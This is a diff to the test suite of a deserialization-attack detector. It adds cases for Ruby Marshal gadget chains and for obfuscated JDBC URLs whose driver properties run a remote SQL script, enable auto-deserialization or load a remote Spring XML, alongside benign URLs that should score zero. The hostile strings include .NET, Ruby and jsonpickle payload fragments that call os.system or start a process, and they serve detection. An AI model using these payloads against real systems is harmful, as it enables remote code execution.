@@ -110,9 +110,12 @@ describe("deserialization analyzer", () => {
     expect(s('<ObjectDataProvider x:Key="a" ObjectType="{x:Type sd:Process}" MethodName="Start">')).toBe(0.9);
     expect(s("clr-namespace:System.Diagnostics;assembly=System")).toBe(0.9);
     const marshal = Buffer.from("\x04\bo:\x15Gem::Requirement\x06:\x10@requirements", "latin1");
-    expect(s(marshal.toString("base64"))).toBe(0.85);
+    expect(s(marshal.toString("base64"))).toBe(0.9);
     expect(s(marshal.toString("latin1"))).toBe(0.9);
     expect(s("--- !ruby/hash:Net::WriteAdapter")).toBeGreaterThanOrEqual(0.85);
+    // The gadget chains dump an array of such objects.
+    const chain = Buffer.from("\x04\b[\x07o:\x14Gem::SpecFetcher\x00o:\x13Gem::Installer\x00U:\x15Gem::Requirement[\x06o:\x12Net::WriteAdapter", "latin1");
+    expect(s(chain.toString("base64"))).toBe(0.9);
     expect(s('{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}')).toBe(0.95);
     expect(s('{"py/reduce":[{"py/type":"myapp.Thing"}]}')).toBe(0.8);
     // A JSON body's leaves: the callable's name under jsonpickle's key.
@@ -120,10 +123,17 @@ describe("deserialization analyzer", () => {
   });
 
   test("JDBC URLs whose driver properties run a script, deserialize or load a class; plain ones are nothing", () => {
-    for (const v of ["jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'", "jdbc:mysql://198.51.100.7:3306/db?autoDeserialize=true&queryInterceptors=x.Y", "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/b.xml"]) {
+    for (const v of [
+      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'", "jdbc:h2:mem:;IN\\IT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'",
+      "jdbc:mysql://198.51.100.7:3306/db?autoDeserialize=true&queryInterceptors=x.Y", "jdbc:mysql://198.51.100.7/db?autoDeserialize=yes",
+      "jdbc:mysql://address=(host=198.51.100.7)(autoDeserialize=true)(queryInterceptors=x.Y)/db",
+      "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/b.xml",
+    ]) {
       expect([v, s(v)]).toEqual([v, 0.9]);
     }
     for (const v of ["jdbc:mysql://db.internal:3306/shop?useSSL=true", "jdbc:postgresql://localhost:5432/app", "jdbc:h2:mem:testdb"]) expect([v, s(v)]).toEqual([v, 0]);
+    // Read once each, to the next blank: half a megabyte of `jdbc:` prefixes is a linear read.
+    for (const v of ["jdbc:h2:".repeat(62_500), "jdbc:mysql://".repeat(40_000), `${"jdbc:postgresql:x".repeat(30_000)}?`]) expect(s(v)).toBe(0);
   });
 
   test("ordinary values are not serialized objects", () => {
